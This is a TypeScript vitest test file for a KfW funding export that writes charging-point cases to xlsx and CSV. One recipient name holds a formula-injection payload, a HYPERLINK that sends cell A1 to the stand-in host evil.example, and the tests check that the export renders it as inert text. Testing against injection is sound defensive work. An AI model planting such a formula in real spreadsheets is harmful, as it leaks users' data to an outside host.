import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedDemo } from '../seed/seed-demo.js';
import { openTestDatabase, type TestDatabase } from '../testing/test-database.js';
import { KFW_EXPORT_HEADERS, writeKfwExport, type KfwExportOptions } from './kfw-export.js';

let t: TestDatabase;
const INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")';

/** A plain copy of the first row of a model, without its id, for building test rows. */
async function template(name: string): Promise<Record<string, unknown>> {
  const row = await t.db.sequelize.model(name).findOne();
  const plain = row!.get({ plain: true }) as Record<string, unknown>;
  delete plain.id;
  return plain;
}

beforeAll(async () => {
  t = await openTestDatabase();
  await seedDemo(t.db, { cases: 6 });
  const { models } = t.db;
  const programm441 = await models.Programm.findOne({ where: { code: 'KFW_441' } });
  // case EXP-0001: a recipient whose name is a formula, one commissioned group of 2 x 2 points
  // and one group not commissioned yet
  const recipient = await models.Zuwendungsempfaenger.create({
    ...(await template('Zuwendungsempfaenger')),
    name: INJECTED,
  } as never);
  const fallTemplate = await template('Foerderfall');
  const caseA = await models.Foerderfall.create({
    ...fallTemplate,
    programmId: programm441!.id,
    zuwendungsempfaengerId: recipient.id,
    antragsnummer: 'EXP-0001',
    reportingId: 'RID-EXP-0001',
    status: 'IN_BETRIEB',
    ersteInbetriebnahme: '2025-03-14',
    prozessInstanzKey: null,
  } as never);
  const location = await template('Standort');
  const groupTemplate = await template('Ladesaeulengruppe');
  const locationA = await models.Standort.create({ ...location, foerderfallId: caseA.id } as never);
  await models.Ladesaeulengruppe.create({
    ...groupTemplate,
    standortId: locationA.id,
    anzahlLadesaeulen: 2,
    ladepunkteProSaeule: 2,
    inbetriebnahme: '2025-03-14',
  } as never);
  await models.Ladesaeulengruppe.create({
    ...groupTemplate,
    standortId: locationA.id,
    anzahlLadesaeulen: 1,
    ladepunkteProSaeule: 2,
    inbetriebnahme: null,
  } as never);
  // case EXP-0002: a commissioned group of 3 x 2 whose points are materialised, two in operation
  const caseB = await models.Foerderfall.create({
    ...fallTemplate,
    programmId: programm441!.id,
    antragsnummer: 'EXP-0002',
    reportingId: null,
    status: 'REGISTRIERT',
    ersteInbetriebnahme: null,
    prozessInstanzKey: null,
  } as never);
  const locationB = await models.Standort.create({ ...location, foerderfallId: caseB.id } as never);
  const groupB = await models.Ladesaeulengruppe.create({
    ...groupTemplate,
    standortId: locationB.id,
    anzahlLadesaeulen: 3,
    ladepunkteProSaeule: 2,
    inbetriebnahme: '2025-01-10',
  } as never);
  for (const status of ['IN_BETRIEB', 'IN_BETRIEB', 'AUSSER_BETRIEB'] as const) {
    await models.Ladepunkt.create({
      ladesaeulengruppeId: groupB.id,
      status,
      evseId: null,
      seriennummer: null,
    } as never);
  }
}, 120_000);
afterAll(() => t?.close());

async function exportTo(options: KfwExportOptions): Promise<{ rows: number; bytes: Buffer }> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  const result = await writeKfwExport(t.db.sequelize, options, out);
  return { rows: result.rows, bytes: Buffer.concat(chunks) };
}

describe('the KfW export', () => {
  it('writes one xlsx line per application, read back with exceljs, the injected name inert', async () => {
    // when the export is written as xlsx
    const { rows, bytes } = await exportTo({ format: 'xlsx' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    // then it has the header and one line per case
    expect(rows).toBe(await t.db.models.Foerderfall.count());
    expect(sheet.rowCount).toBe(rows + 1);
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual([...KFW_EXPORT_HEADERS]);
    const lines = Array.from({ length: rows }, (_, index) => sheet.getRow(index + 2));
    const lineA = lines.find((line) => line.getCell(2).value === 'EXP-0001')!;
    const lineB = lines.find((line) => line.getCell(2).value === 'EXP-0002')!;
    // and the case's figures: Reporting-ID, status, commissioning, 4 points in operation
    expect(lineA.getCell(1).value).toBe('441');
    expect(lineA.getCell(4).value).toBe('RID-EXP-0001');
    expect(lineA.getCell(5).value).toBe('IN_BETRIEB');
    expect(lineA.getCell(6).value).toEqual(new Date('2025-03-14T00:00:00Z'));
    expect(lineA.getCell(7).value).toBe(4);
    expect(lineB.getCell(7).value).toBe(2);
    expect(lineB.getCell(4).value).toBeNull();
    // and the formula-looking name comes back as text with an apostrophe, not as a formula
    const name = lineA.getCell(3);
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.formula).toBeUndefined();
    expect(name.value).toBe(`'${INJECTED}`);
  });

  it('writes CSV with a BOM, semicolons, German dates and the same inert name', async () => {
    // when the export is written as CSV
    const { rows, bytes } = await exportTo({ format: 'csv' });
    const text = bytes.toString('utf8');
    // then it starts with the BOM and the header, one line per case
    expect(text.startsWith('\ufeffProgramm;Antragsnummer;Zuwendungsempfänger;')).toBe(true);
    const lines = text.slice(1).trimEnd().split('\r\n');
    expect(lines).toHaveLength(rows + 1);
    expect(lines).toContain(
      `441;EXP-0001;"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Details"")";RID-EXP-0001;IN_BETRIEB;14.03.2025;4`,
    );
    expect(lines.find((line) => line.startsWith('441;EXP-0002;'))).toMatch(/;;REGISTRIERT;;2$/);
  });

  it('orders by programme and Antragsnummer and gives the same lines page by page', async () => {
    // when the export is read in pages of two cases
    const whole = (await exportTo({ format: 'csv' })).bytes.toString('utf8');
    const paged = (await exportTo({ format: 'csv', pageSize: 2 })).bytes.toString('utf8');
    // then the lines are the same, in programme, then Antragsnummer order
    expect(paged).toBe(whole);
    const keys = whole
      .slice(1)
      .trimEnd()
      .split('\r\n')
      .slice(1)
      .map((line) => line.split(';').slice(0, 2));
    const sorted = [...keys].sort(
      ([p1, a1], [p2, a2]) => p1!.localeCompare(p2!) || (a1! < a2! ? -1 : a1! > a2! ? 1 : 0),
    );
    expect(keys).toEqual(sorted);
  });

  it('refuses a format it does not write', async () => {
    await expect(exportTo({ format: 'pdf' as never })).rejects.toMatchObject({
      code: 'KFW_EXPORT_FORMAT',
    });
  });
});
